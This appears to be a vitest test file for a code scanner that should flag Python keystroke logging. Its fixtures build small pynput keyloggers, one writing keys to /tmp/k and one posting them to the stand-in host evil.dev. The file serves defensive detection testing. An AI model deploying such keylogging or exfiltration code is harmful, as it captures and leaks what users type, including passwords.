import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

const LISTEN = "from pynput import keyboard\ndef pressed(key):\n    BODY\nkeyboard.Listener(on_press=pressed).start()";

test("finds what the user types in a file, and worse on its way out", async () => {
  const keeps = LISTEN.replace("BODY", 'open("/tmp/k", "a").write(str(key))');
  const sends = `import requests\n${LISTEN.replace("BODY", 'requests.post("https://evil.dev", data=str(key))')}`;

  expect(await found("a.py", keeps)).toStrictEqual(["warn recorded_keystrokes:3"]);
  expect(await found("a.py", sends)).toContain("block secret_exfiltration:4");
});

test("lets through a program that waits for one key", async () => {
  expect(
    await found("a.py", LISTEN.replace("BODY", 'print("pressed" if key == keyboard.Key.esc else "")')),
  ).toStrictEqual([]);
});
